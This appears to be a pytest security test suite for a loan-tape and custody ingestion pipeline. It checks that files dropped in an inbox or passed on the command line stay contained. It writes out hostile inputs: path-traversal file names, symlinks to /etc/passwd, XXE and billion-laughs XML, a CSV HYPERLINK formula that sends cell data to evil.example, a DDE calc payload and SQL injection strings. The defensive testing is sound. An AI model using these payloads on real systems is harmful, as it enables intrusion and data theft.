"""Hostile input against the real components: names that try to climb out of the inbox, links that point
out of it, XML that asks for files, URLs or a billion entities, files too large, formulas waiting in exported CSV,
SQL in command-line filters, and secrets and borrower names that must not reach a log.

Each test drops its input where a counterparty or an operator would (the inbox, a command line, an environment
variable) and checks what the components do with it, and that nothing outside BACKED_HOME was read or written.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import tempfile
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import dagster as dg
import duckdb
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from assets.chain.ingest import ChainRun
from assets.chain.profiles import load_profile, rpc_client
from assets.chain.rpc import JsonRpcError, RpcHttpError, RpcUnavailable
from assets.custodian.statements import ingest_custodian_day
from assets.inbox.register import REJECTED, ROUTED, read_receipts
from assets.loan_tapes.assets import loan_tape_ingestion
from assets.inbox.intake import UnsafeArchive, take_in_inbox
from foundation.lake import Lake
from assets.loan_tapes.tape import ingest_loan_tapes_day
from expectations.exceptions import BLOCKER, TABLE, WARN, Break, record_evaluation
from orchestration.cli import main as backed
from foundation.home_resource import BackedHome
from orchestration.sensors import inbox_sensor
from sandbox.file_drops import (
    LoanTapeRow,
    StatementRow,
    write_holdings_statement,
    write_lender_a_workbook,
    write_loan_tape,
)

# every test here feeds a hostile or malformed input: counted in the reliability summary
pytestmark = pytest.mark.bad_input

DAY = date(2026, 1, 5)
RECEIVED_AT = datetime(2026, 1, 6, 12, 0)
BORROWERS = ("Helios Compute Ltd", "Société Générale Compute", "Zeta Tensor Labs")


def tape_row(number: int, **changes) -> LoanTapeRow:
    row = dict(
        as_of_date=DAY, lender_id="acme", loan_id=f"L-{number}", loan_terms_hash="0x" + f"{number:02d}" * 32,
        borrower_id=f"B-{number}", borrower_name=BORROWERS[number % len(BORROWERS)], currency="USDC",
        original_principal=Decimal("500000"), principal_outstanding=Decimal("500000"),
        accrued_interest=Decimal("102.739726"), daily_interest=Decimal("102.739726"), interest_rate_bps=750,
        status="current", days_past_due=0, origination_date=date(2026, 1, 4), maturity_date=date(2027, 1, 4),
        collateral=f"{1000 + number}=165292200000{number}", insurance_cover_ratio=Decimal("0.70"),
        insurance_waiting_period_days=21,
    )
    row.update(changes)
    return LoanTapeRow(**row)


HOLDINGS = [
    StatementRow("opening_cash", amount=Decimal("100.00")),
    StatementRow("holding", cusip="912797LB1", security_description="US T-Bill", maturity_date=date(2026, 3, 26),
                 par_value=Decimal("1000"), price=Decimal("99"), market_value=Decimal("990.00")),
    StatementRow("closing_cash", amount=Decimal("100.00")),
]


@pytest.fixture
def world(tmp_path) -> tuple[Lake, Path]:
    """BACKED_HOME, and a folder beside it standing for the rest of the machine."""
    outside = tmp_path / "outside"
    outside.mkdir()
    return Lake(tmp_path / "home"), outside


def tree(folder: Path) -> dict[str, tuple]:
    """Every entry under `folder` with what would show a read-write visit: kind, size, links, modification time."""
    entries = {}
    for path in sorted(folder.rglob("*")):
        status = path.lstat()
        entries[str(path.relative_to(folder))] = (status.st_mode, status.st_size, status.st_nlink, status.st_mtime_ns)
    return entries


def everything_written(lake: Lake) -> bytes:
    """The bytes of every file under BACKED_HOME, to search for what must not be there."""
    return b"\n".join(path.read_bytes() for path in lake.home.root.rglob("*") if path.is_file() and not path.is_symlink())


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


# --- names and links in the inbox --------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "encoded-traversal": "%2e%2e%2f%2e%2e%2fetc%2fpasswd.csv",
    "half-encoded-traversal": "tape..%2f..%2f..%2fetc%2fpasswd.csv",
    "backslash-traversal": "tape\\..\\..\\..\\outside\\tape.csv",
    "dash": "-rf .csv",
    "log-forging": "tape.csv\n2026-01-06 rejected everything\x1b[2K",
    "not-utf8": os.fsdecode(b"tape-\xff\xfe.csv"),
    "very-long": "tape-" + "x" * 245 + ".csv",
    "very-long-multibyte": "é" * 125 + ".csv",
}


def tape_bytes(rows: list[LoanTapeRow]) -> bytes:
    with tempfile.TemporaryDirectory() as scratch:
        write_loan_tape(Path(scratch) / "tape.csv", rows)
        return (Path(scratch) / "tape.csv").read_bytes()


@pytest.mark.parametrize("case", HOSTILE_NAMES)
def test_a_hostile_file_name_is_taken_in_under_a_safe_name_inside_backed_home(world, case):
    lake, outside = world
    name = HOSTILE_NAMES[case]
    lake.home.inbox.mkdir(parents=True)
    (lake.home.inbox / name).write_bytes(tape_bytes([tape_row(1)]))
    before = tree(outside)
    (result,) = take_in_inbox(lake, clock=lambda: RECEIVED_AT)
    assert (result.status, result.partition) == (ROUTED, DAY), result.recognition
    # recorded under a name that is printable UTF-8, one line, short enough to add a hash to
    assert "\n" not in result.file_name and "\x1b" not in result.file_name and "/" not in result.file_name
    assert len(result.file_name.encode()) <= 160 and result.file_name.encode().decode() == result.file_name
    assert result.archive_path.resolve().is_relative_to(lake.home.archive.resolve())
    (summary,) = ingest_loan_tapes_day(DAY, lake)
    assert (summary.file_name, summary.rows_accepted) == (result.file_name, 1)
    assert lake.read_table("loan_tapes", DAY).column("source_file").to_pylist() == [result.file_name]
    assert read_receipts(lake).get_column("file_name").to_list() == [result.file_name]
    assert [p for p in lake.home.inbox.rglob("*") if p.is_file() and not p.is_relative_to(lake.home.archive)] == []
    assert tree(outside) == before
    assert {p.name for p in lake.home.root.parent.iterdir()} == {"home", "outside"}


def test_a_dot_file_is_a_file_still_being_written_and_is_left_alone_whatever_its_name(world):
    lake, outside = world
    lake.home.inbox.mkdir(parents=True)
    (lake.home.inbox / "..%2f..%2fetc%2fpasswd").write_bytes(tape_bytes([tape_row(1)]))
    assert take_in_inbox(lake, clock=lambda: RECEIVED_AT) == []
    assert (lake.home.inbox / "..%2f..%2fetc%2fpasswd").exists() and read_receipts(lake).is_empty()
    assert os.listdir(outside) == []


def test_a_hostile_file_name_that_cannot_be_read_is_rejected_inside_backed_home(world):
    lake, outside = world
    name = "x..%2f..%2foutside%2f" + "y" * 230
    (lake.home.inbox / "deep" / "er").mkdir(parents=True)
    (lake.home.inbox / "deep" / "er" / name).write_bytes(b"\x00\x01 not a document")
    (result,) = take_in_inbox(lake, clock=lambda: RECEIVED_AT)
    assert (result.status, result.recognition.problem) == (REJECTED, "unrecognised_content")
    quarantined = lake.rejected_file_quarantine_path(RECEIVED_AT.date(), result.file_name, result.sha256)
    assert quarantined.resolve().is_relative_to(lake.home.quarantine.resolve())
    (entry,) = pq.read_table(quarantined).to_pylist()
    assert (entry["source_file"], entry["reason"]) == (result.file_name, "unrecognised_content")
    assert result.archive_path.resolve().is_relative_to(lake.home.archive.resolve())
    assert os.listdir(outside) == []


def test_backed_ingest_of_a_path_with_dot_dot_copies_the_file_and_writes_only_inside_backed_home(world, monkeypatch):
    lake, outside = world
    write_loan_tape(outside / "tape.csv", [tape_row(1)])
    before = tree(outside)
    monkeypatch.setenv("BACKED_HOME", str(lake.home))
    (lake.home.inbox / "sub").mkdir(parents=True)
    climbing = lake.home.inbox / "sub" / ".." / ".." / ".." / "outside" / "tape.csv"
    result = CliRunner().invoke(backed, ["--home", str(lake.home), "ingest", str(climbing)])
    assert result.exit_code == 0, result.output
    assert "tape.csv: loan_tapes (loan_tape_csv), partition 2026-01-05, 1 rows accepted, 0 quarantined" in result.output
    assert tree(outside) == before  # named explicitly, so read; copied, never moved or changed
    (archived,) = (lake.home.archive / "loan_tapes" / DAY.isoformat()).iterdir()
    assert archived.read_bytes() == (outside / "tape.csv").read_bytes() and archived.stat().st_nlink == 1


def test_a_link_in_the_inbox_is_never_followed_and_is_rejected_with_its_reason(world):
    lake, outside = world
    # What the links point at would be taken in if read: a valid tape, a folder of them; and /etc/passwd.
    write_loan_tape(outside / "secret-tape.csv", [tape_row(1, borrower_name="Confidential Borrower LLC")])
    write_loan_tape(outside / "folder" / "more.csv", [tape_row(2)])
    lake.home.inbox.mkdir(parents=True)
    links = {
        "tape.csv": outside / "secret-tape.csv",
        "folder": outside / "folder",
        "dangling.csv": outside / "gone.csv",
        "etc-passwd": Path("/etc/passwd"),
    }
    for name, target in links.items():
        (lake.home.inbox / name).symlink_to(target)
    (lake.home.inbox / "nested").mkdir()
    (lake.home.inbox / "nested" / "relative.csv").symlink_to(Path("..") / ".." / ".." / "outside" / "secret-tape.csv")
    before = tree(outside)
    secret = (outside / "secret-tape.csv").read_bytes()

    results = take_in_inbox(lake, clock=lambda: RECEIVED_AT)

    assert sorted((r.file_name, r.status, r.recognition.problem) for r in results) == sorted(
        [(name, REJECTED, "symbolic_link") for name in [*links, "relative.csv"]])
    for result in results:
        assert not result.archive_path.is_symlink(), "the archive holds files, never links"
        assert result.sha256 == sha256(result.archive_path.read_bytes())  # the link's text, not what it points at
        assert result.recognition.detail.startswith("a symbolic link to ")
        (entry,) = pq.read_table(lake.rejected_file_quarantine_path(RECEIVED_AT.date(), result.file_name,
                                                                    result.sha256)).to_pylist()
        assert (entry["source_row"], entry["reason"]) == (0, "symbolic_link")
    assert tree(outside) == before  # nothing moved, changed or hard-linked out there
    assert (outside / "secret-tape.csv").stat().st_nlink == 1
    assert secret not in everything_written(lake) and b"Confidential Borrower" not in everything_written(lake)
    assert b"root:" not in everything_written(lake)
    assert [p for p in lake.home.inbox.rglob("*") if not p.is_relative_to(lake.home.archive) and not p.is_dir()] == []
    assert take_in_inbox(lake) == []


@pytest.mark.parametrize("planted", ["archive", "archive/loan_tapes"])
def test_a_link_planted_in_place_of_the_archive_stops_intake_before_it_writes_outside(world, planted):
    lake, outside = world
    (lake.home.inbox / planted).parent.mkdir(parents=True, exist_ok=True)
    (lake.home.inbox / planted).symlink_to(outside, target_is_directory=True)
    write_loan_tape(lake.home.inbox / "tape.csv", [tape_row(1)])
    with pytest.raises(UnsafeArchive, match="outside BACKED_HOME"):
        take_in_inbox(lake, clock=lambda: RECEIVED_AT)
    assert os.listdir(outside) == [] and (lake.home.inbox / "tape.csv").exists()


# --- XML that asks for more than its text ------------------------------------------------------------------------

class _Listener(BaseHTTPRequestHandler):
    """Counts every request: an XML parser that fetches an external entity or DTD would show up here."""

    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        _Listener.requests.append(self.path)
        body = b'<!ENTITY exfiltrated "fetched">'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    _Listener.requests = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def billion_laughs(levels: int = 10) -> str:
    return ('<!DOCTYPE Document [<!ENTITY lol0 "lol">'
            + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels))
            + "]>")


def hostile_prologs(url: str, secret_file: Path) -> dict[str, str]:
    return {
        "external-file-entity": f'<!DOCTYPE Document [<!ENTITY s SYSTEM "file://{secret_file}">]>',
        "external-url-entity": f'<!DOCTYPE Document [<!ENTITY s SYSTEM "{url}/entity">]>',
        "external-dtd": f'<!DOCTYPE Document SYSTEM "{url}/evil.dtd">',
        "parameter-entity": f'<!DOCTYPE Document [<!ENTITY % p SYSTEM "{url}/param.dtd"> %p;]>',
        "billion-laughs": billion_laughs(),
        "quadratic-blowup": f'<!DOCTYPE Document [<!ENTITY a "{"a" * 50_000}">]>',
    }


# Where each prolog's entity is used, in place of a value that lands in the lake (None: the prolog declares none).
ENTITY_USES = {"external-file-entity": b"&s;", "external-url-entity": b"&s;", "external-dtd": None,
               "parameter-entity": None, "billion-laughs": b"&lol9;", "quadratic-blowup": b"&a;" * 50}


def test_xml_with_a_dtd_is_rejected_before_anything_is_expanded_or_fetched(world, listener):
    lake, outside = world
    secret_file = outside / "secret.txt"
    secret_file.write_text("TOP-SECRET-CUSTODY-KEY")
    scratch = outside / "scratch"
    write_holdings_statement(scratch / "holdings.xml", DAY, "ACC-1", HOLDINGS)
    good = (scratch / "holdings.xml").read_bytes()
    declaration = b"<?xml version='1.0' encoding='UTF-8'?>"
    for case, prolog in hostile_prologs(listener, secret_file).items():
        # the entity goes where the custodian's account id goes
        content = good.replace(declaration, declaration + b"\n" + prolog.encode())
        content = content.replace(b"ACC-1</Id>", (ENTITY_USES[case] or b"ACC-1") + b"</Id>")
        (lake.home.inbox / f"{case}.xml").parent.mkdir(parents=True, exist_ok=True)
        (lake.home.inbox / f"{case}.xml").write_bytes(content)
    tracemalloc.start()
    started = time.monotonic()
    results = take_in_inbox(lake, clock=lambda: RECEIVED_AT)
    elapsed, (_, peak) = time.monotonic() - started, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert {(r.file_name, r.status, r.recognition.problem) for r in results} == {
        (f"{case}.xml", REJECTED, "unsafe_xml") for case in hostile_prologs(listener, secret_file)}
    assert _Listener.requests == []
    assert b"TOP-SECRET" not in everything_written(lake) and b"lollol" not in everything_written(lake)
    assert peak < 32 * 1024**2 and elapsed < 10  # a billion laughs expanded would be gigabytes


def test_xinclude_in_a_statement_is_plain_markup_and_includes_nothing(world):
    lake, outside = world
    secret_file = outside / "secret.txt"
    secret_file.write_text("TOP-SECRET-CUSTODY-KEY")
    write_holdings_statement(outside / "holdings.xml", DAY, "ACC-1", HOLDINGS)
    content = (outside / "holdings.xml").read_bytes().replace(
        b"<Id>ACC-1</Id>",
        f'<Id>ACC-1<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret_file}" '
        f'parse="text"/></Id>'.encode())
    (lake.home.inbox / "holdings.xml").parent.mkdir(parents=True)
    (lake.home.inbox / "holdings.xml").write_bytes(content)
    (result,) = take_in_inbox(lake, clock=lambda: RECEIVED_AT)
    assert result.status == ROUTED, result.recognition
    (summary,) = ingest_custodian_day(DAY, lake)
    assert summary.rows_accepted == 1
    assert b"TOP-SECRET" not in everything_written(lake)


def test_a_workbook_whose_sheet_carries_a_dtd_is_rejected_as_unsafe(world, listener):
    lake, outside = world
    secret_file = outside / "secret.txt"
    secret_file.write_text("TOP-SECRET-CUSTODY-KEY")
    write_lender_a_workbook(outside / "tape.xlsx", DAY, [tape_row(1, lender_id="lender-a")])
    for case, prolog in hostile_prologs(listener, secret_file).items():
        out = io.BytesIO()
        with zipfile.ZipFile(outside / "tape.xlsx") as source, zipfile.ZipFile(out, "w") as target:
            for member in source.infolist():
                data = source.read(member.filename)
                if member.filename.startswith("xl/worksheets/") or member.filename == "xl/sharedStrings.xml":
                    used = ENTITY_USES[case] or b"L-1"  # in place of the loan id
                    data = prolog.encode() + data.replace(b"<t>L-1</t>", b"<t>" + used + b"</t>")
                target.writestr(member, data)
        (lake.home.inbox / f"{case}.xlsx").parent.mkdir(parents=True, exist_ok=True)
        (lake.home.inbox / f"{case}.xlsx").write_bytes(out.getvalue())
    outcomes = {r.file_name: (r.status, r.recognition.problem) for r in take_in_inbox(lake, clock=lambda: RECEIVED_AT)}
    # openpyxl's XML goes through defusedxml, which refuses every entity; a DTD that declares none is not fetched
    assert outcomes.pop("external-dtd.xlsx")[0] in (ROUTED, REJECTED)
    assert set(outcomes.values()) == {(REJECTED, "unsafe_xml")}, outcomes
    assert _Listener.requests == []
    assert b"TOP-SECRET" not in everything_written(lake)


# --- size -------------------------------------------------------------------------------------------------------------

def test_a_file_over_the_inbox_limit_is_rejected_naming_the_file_and_the_limit(world, monkeypatch):
    lake, outside = world
    monkeypatch.setenv("BACKED_HOME", str(lake.home))
    monkeypatch.setenv("BACKED_MAX_INBOX_FILE_BYTES", "4096")
    write_loan_tape(lake.home.inbox / "small.csv", [tape_row(1)])
    write_loan_tape(lake.home.inbox / "large.csv", [tape_row(n) for n in range(1, 30)])
    size = (lake.home.inbox / "large.csv").stat().st_size
    assert (lake.home.inbox / "small.csv").stat().st_size <= 4096 < size
    result = CliRunner().invoke(backed, ["--home", str(lake.home), "ingest", str(lake.home.inbox)])
    assert result.exit_code == 1, result.output
    assert (f"large.csv: rejected, file_too_large: {size} bytes, more than the inbox's limit of 4096 bytes "
            "(BACKED_MAX_INBOX_FILE_BYTES)") in result.output
    assert "small.csv: loan_tapes (loan_tape_csv), partition 2026-01-05, 1 rows accepted" in result.output

    monkeypatch.setenv("BACKED_MAX_INBOX_FILE_BYTES", "lots")
    write_loan_tape(lake.home.inbox / "again.csv", [tape_row(2)])
    with pytest.raises(ValueError, match="BACKED_MAX_INBOX_FILE_BYTES must be a positive whole number of bytes"):
        take_in_inbox(lake)
    assert (lake.home.inbox / "again.csv").exists()  # a misconfiguration takes nothing in


# --- exported CSV ------------------------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd")
FILE_SHA256 = "f" * 64


def hostile_warehouse(path: Path) -> None:
    """The relations the trail reads (with the columns of the dbt models of models/trail, derived here from a journal
    and a loan tape as those models derive them), holding one loan tape row whose every text field a lender could
    fill is a formula, and two exceptions."""
    with duckdb.connect(str(path)) as con:
        con.execute("""
            create table main.chart_of_accounts (account_code varchar, account_name varchar);
            insert into main.chart_of_accounts values ('1110', '=interest receivable'), ('4000', 'interest income');
            create table main.journal_lines (partition_date date, effective_time timestamp, entry_id varchar,
                line_no integer, account_code varchar, sub_account varchar, debit decimal(38, 18),
                credit decimal(38, 18), rule_id varchar, source varchar, source_key varchar);
            create table main.stg_loan_tapes (partition_date date, source_sha256 varchar, source_row bigint,
                source_file varchar, loan_id varchar, lender_id varchar, loan_terms_hash varchar, status varchar,
                principal_outstanding decimal(38, 18), borrower_id varchar, borrower_name varchar);
            create table main.stg_custodian_statements (statement_date date, source_sha256 varchar,
                source_row bigint, source_file varchar, record_type varchar, transaction_type varchar, cusip varchar,
                amount decimal(38, 18), market_value decimal(38, 18));
            create table main.stg_chain_events (tx_hash varchar, log_index integer, block_number bigint,
                block_time timestamp, contract_role varchar, event varchar);
        """)
        con.execute("insert into main.stg_loan_tapes values (?, ?, 1, ?, ?, 'acme', ?, 'current', 500000, ?, ?)",
                    [DAY, FILE_SHA256, FORMULAS[0], FORMULAS[1], "0x" + "01" * 32, FORMULAS[2], FORMULAS[3]])
        for line_no, (account, debit, credit) in enumerate([("1110", 102, 0), ("4000", 0, 102)], start=1):
            con.execute("insert into main.journal_lines values (?, ?, ?, ?, ?, ?, ?, ?, ?, 'loan_tape', ?)",
                        [DAY, datetime(2026, 1, 5, 23, 59), FORMULAS[5], line_no, account, "0x" + "01" * 32, debit,
                         credit, FORMULAS[4], f"{FILE_SHA256}:1"])
        con.execute("""
            create table main.journal_line_lineage as
            select j.partition_date, j.effective_time, j.entry_id, j.line_no, j.account_code, c.account_name,
                   j.sub_account, j.debit, j.credit,
                   sum(j.debit - j.credit) over (partition by j.account_code order by j.partition_date,
                       j.effective_time, j.entry_id, j.line_no) as account_balance_after,
                   sum(j.debit - j.credit) over (partition by j.account_code, j.sub_account order by
                       j.partition_date, j.effective_time, j.entry_id, j.line_no) as sub_account_balance_after,
                   j.rule_id, j.source, j.source_key, cast(null as bigint) as block_number,
                   cast(null as timestamp) as block_time, cast(null as varchar) as tx_hash,
                   cast(null as integer) as log_index, cast(null as varchar) as contract_role,
                   cast(null as varchar) as event, t.source_file as file_name, t.source_sha256 as file_sha256,
                   t.source_row as file_row,
                   'loan ' || coalesce(t.loan_id, '') || ' ' || coalesce(t.status, '') || ' principal 500000' as record,
                   t.borrower_id, t.borrower_name
            from main.journal_lines j left join main.chart_of_accounts c using (account_code)
            left join main.stg_loan_tapes t on t.source_sha256 = split_part(j.source_key, ':', 1)
                                          and cast(t.source_row as varchar) = split_part(j.source_key, ':', 2);
            create table main.source_files as select distinct source_file, source_sha256 from main.stg_loan_tapes;
            create table main.chain_transactions (tx_hash varchar, decoded_logs bigint, block_number bigint);
            create table main.loan_tape_appearances as
            select lower(loan_terms_hash) as loan_terms_hash, any_value(loan_id) as loan_id,
                   any_value(lender_id) as lender_id, count(*) as tape_rows
            from main.stg_loan_tapes group by lower(loan_terms_hash);
        """)
        record_evaluation(con, "R1", [DAY], [
            Break("R1", DAY, "usdai:supply", BLOCKER, "1", "0", "1", "0", "supply", "lineage"),
            Break("R4", DAY, "=coverage", WARN, "1", "0", "1", "0", "coverage", "lineage"),
        ], "run-1")


def test_an_exported_trail_neutralises_every_formula_a_counterparty_typed(world, monkeypatch):
    lake, _ = world
    lake.home.root.mkdir(parents=True)
    hostile_warehouse(lake.home.warehouse)
    monkeypatch.setenv("BACKED_HOME", str(lake.home))
    out = lake.home.root / "reports" / "trail.csv"
    result = CliRunner().invoke(backed, ["--home", str(lake.home), "trail", "--file", FORMULAS[0], "--out", str(out),
                                         "--include-pii"])
    assert result.exit_code == 0, result.output
    with out.open(newline="") as exported:
        header, *rows = list(csv.reader(exported))
    assert len(rows) == 2
    numeric = {"debit", "credit", "balance_after", "line_no", "block_number", "log_index", "file_row"}
    cells = [(column, cell) for row in rows for column, cell in zip(header, row)]
    for column, cell in cells:
        if column in numeric:
            assert cell == "" or Decimal(cell) is not None
        else:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    texts = {cell for _, cell in cells}
    # kept whole, behind an apostrophe
    assert {"'" + formula for formula in FORMULAS if formula != FORMULAS[1]} | {"'=interest receivable"} <= texts
    assert any(cell.startswith("loan " + FORMULAS[1]) for cell in texts)  # inside a cell, a formula is only text


# --- SQL in command-line filters ------------------------------------------------------------------------------------

INJECTIONS = ("open' OR 1=1 --", "R1' OR '1'='1", "x'); drop table recon.exceptions; --",
              "' union select * from main.journal_lines --")


def test_sql_in_command_line_filters_is_data_never_sql(world, monkeypatch):
    lake, _ = world
    lake.home.root.mkdir(parents=True)
    hostile_warehouse(lake.home.warehouse)
    monkeypatch.setenv("BACKED_HOME", str(lake.home))

    def run(*arguments: str):
        return CliRunner().invoke(backed, ["--home", str(lake.home), *arguments])

    # the same filters with real values find rows, so finding none below is the injection being taken as a value
    assert "usdai:supply" in run("exceptions", "list", "--check", "R1", "--status", "all").output
    assert run("trail", "--file", FORMULAS[0]).exit_code == 0
    assert ", 1 journal lines" in run("trail", "--account", "1110", "--date", "2026-01-05", "--sub-account",
                                      "0x" + "01" * 32).output
    for injection in INJECTIONS:
        status = run("exceptions", "list", "--status", injection)
        assert status.exit_code == 2 and "Invalid value for '--status'" in status.output
        assert run("exceptions", "list", "--check", injection, "--status", "all").output.strip() == "no exceptions"
        shown = run("exceptions", "show", injection)
        assert shown.exit_code == 1 and f"no exception {injection}" in shown.output
        acknowledged = run("exceptions", "ack", injection, "--by", "mallory", "--reason", "' or 1=1 --")
        assert acknowledged.exit_code == 1 and "no exception" in acknowledged.output
        by_file = run("trail", "--file", injection)
        assert by_file.exit_code == 1 and "no statement or tape file named" in by_file.output
        for option in ("--tx", "--loan"):  # refused as not a hash before any query
            refused = run("trail", option, injection)
            assert refused.exit_code == 2 and "is not a hash (0x and 64 hex digits)" in refused.output
        assert ", 0 journal lines" in run("trail", "--account", "1110", "--date", "2026-01-05", "--sub-account",
                                          injection).output
        account = run("trail", "--account", injection, "--date", "2026-01-05")
        assert account.exit_code == 1 and "no account" in account.output
    with duckdb.connect(str(lake.home.warehouse), read_only=True) as con:
        assert con.execute(f"select count(*), count(acknowledged_by) from {TABLE}").fetchone() == (2, 0)
        assert con.execute("select count(*) from main.journal_lines").fetchone() == (2,)


# --- what must not reach a log ---------------------------------------------------------------------------------------

def test_borrower_names_never_reach_a_log_or_the_terminal(world, monkeypatch, caplog, capfd):
    # Rows whose borrower name breaks a rule, so that the name is the value a quarantine message would show.
    lake, outside = world
    monkeypatch.setenv("BACKED_HOME", str(lake.home))
    # Rows whose borrower name breaks a rule, so that the name is the value a quarantine message would show: one in
    # Latin-1, one cut short inside its quotes; and a tape sent without its header row, so unrecognised.
    tape = tape_bytes([tape_row(1), tape_row(2), tape_row(3, borrower_name="=HYPERLINK(1), Inc.")])
    latin1 = tape.replace(BORROWERS[2].encode(), BORROWERS[1].encode("latin-1"))
    lake.home.inbox.mkdir(parents=True)
    (lake.home.inbox / "acme.csv").write_bytes(latin1[: latin1.rindex(b'"=HYPERLINK') + 8])
    (lake.home.inbox / "headless.csv").write_bytes(tape.split(b"\n", 1)[1])
    (outside / "acme-corrected.csv").write_bytes(latin1.replace(b"L-1,", b"L-9,")[: latin1.rindex(b'"=HYPERLINK') + 8])
    caplog.set_level(logging.DEBUG)

    with dg.build_sensor_context(resources={"backed_home": BackedHome(home=str(lake.home))}) as context:
        requests = list(inbox_sensor(context))
    instance = dg.DagsterInstance.ephemeral()
    result = dg.materialize([loan_tape_ingestion], partition_key=requests[0].partition_key, instance=instance,
                            resources={"backed_home": BackedHome(home=str(lake.home))})
    assert result.success
    printed = CliRunner().invoke(backed, ["--home", str(lake.home), "ingest", str(outside / "acme-corrected.csv")])
    assert printed.exit_code == 0, printed.output
    (summary,) = ingest_loan_tapes_day(DAY, lake)
    assert summary.reasons == {"invalid_encoding": 1, "truncated_row": 1, "wrong_field_count": 1}, summary.messages
    quarantined = lake.read_quarantine("loan_tapes", DAY, summary.file_name, summary.sha256).to_pylist()
    assert any(entry["field"] == "borrower_name" for entry in quarantined)  # the quarantine itself keeps the value
    (headless,) = read_receipts(lake).filter(read_receipts(lake)["file_name"] == "headless.csv").to_dicts()
    assert headless["problem"] == "unrecognised_content"

    events = "\n".join(entry.user_message for entry in instance.all_logs(result.run_id))  # the run's log in the UI
    captured = capfd.readouterr()
    seen = "\n".join([caplog.text, events, printed.output, captured.out, captured.err, *summary.messages,
                      headless["problem_detail"]])
    # the quarantine messages did reach the run's log, the terminal and the sensor's log, without the names
    masked = "row 2, field borrower_name: invalid_encoding (value masked: personal data)"
    assert masked in events and masked in printed.output and "row 3: truncated_row" in events
    assert "headless.csv: rejected (unrecognised_content) the first line (" in seen
    for name in (*BORROWERS, "Soci\ufffdt\ufffd G\ufffdn\ufffdrale", "Soci", "HYPERLINK", "=HYPER"):
        assert name not in seen, name


class _ScriptedNode(BaseHTTPRequestHandler):
    """A JSON-RPC node that first fails the ways providers do (rate limit, outage, an unauthorised key), then
    answers; every request's path and authorisation is kept, to check the secrets were really sent."""

    failures: list[int] = []
    seen: list[tuple[str, str]] = []

    def do_POST(self) -> None:  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        _ScriptedNode.seen.append((self.path, self.headers.get("Authorization", "")))
        if _ScriptedNode.failures:
            status = _ScriptedNode.failures.pop(0)
            self.send_response(status)
            self.send_header("Retry-After", "0")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        answers = [self._answer(call) for call in body] if isinstance(body, list) else self._answer(body)
        payload = json.dumps(answers).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    @staticmethod
    def _answer(call: dict) -> dict:
        results = {"eth_chainId": hex(42161), "eth_blockNumber": hex(1000), "eth_getCode": "0x"}
        if call["method"] in results:
            return {"jsonrpc": "2.0", "id": call["id"], "result": results[call["method"]]}
        return {"jsonrpc": "2.0", "id": call["id"], "error": {"code": -32601, "message": "method not found"}}

    def log_message(self, *args) -> None:
        pass


def test_a_key_in_the_rpc_url_never_reaches_a_log_an_error_or_a_repr(tmp_path, monkeypatch, caplog):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _ScriptedNode)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    secrets = ("PATH-KEY-8f3a", "QUERY-KEY-77c1", "basic-user", "PASSWORD-19ee")
    url = f"http://{secrets[2]}:{secrets[3]}@127.0.0.1:{server.server_address[1]}/v2/{secrets[0]}?apikey={secrets[1]}"
    monkeypatch.setenv("BACKED_RPC_URL", url)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    caplog.set_level(logging.DEBUG)
    _ScriptedNode.failures, _ScriptedNode.seen = [429, 503], []
    try:
        profile = load_profile("arbitrum", tmp_path)
        failures = []
        with rpc_client(profile, attempts=3, backoff_s=0.01) as rpc:
            run = ChainRun(profile, rpc)  # chain id after a 429 and a 503, then the contracts' start blocks
            assert run.profile.chain_id == 42161
            with pytest.raises(JsonRpcError) as unknown_method:
                rpc.call("eth_getBlockByNumber", ["finalized", False])
            failures.append(unknown_method.value)
            _ScriptedNode.failures = [401]
            with pytest.raises(RpcHttpError) as unauthorised:
                rpc.call("eth_blockNumber", [])
            failures.append(unauthorised.value)
            _ScriptedNode.failures = [500, 500, 500]
            with pytest.raises(RpcUnavailable) as down:
                rpc.batch([("eth_getCode", ["0x" + "00" * 20, "latest"])])
            failures.append(down.value)
            shown = [repr(profile), repr(rpc), repr(run.profile), *(str(f) for f in failures),
                     *(repr(f) for f in failures), caplog.text]
    finally:
        server.shutdown()
        server.server_close()
    assert any("retrying" in record.getMessage() for record in caplog.records)
    assert {path for path, _ in _ScriptedNode.seen} == {f"/v2/{secrets[0]}?apikey={secrets[1]}"}  # really sent
    assert all(authorisation.startswith("Basic ") for _, authorisation in _ScriptedNode.seen)
    for secret in secrets:
        assert not any(secret in text for text in shown), secret
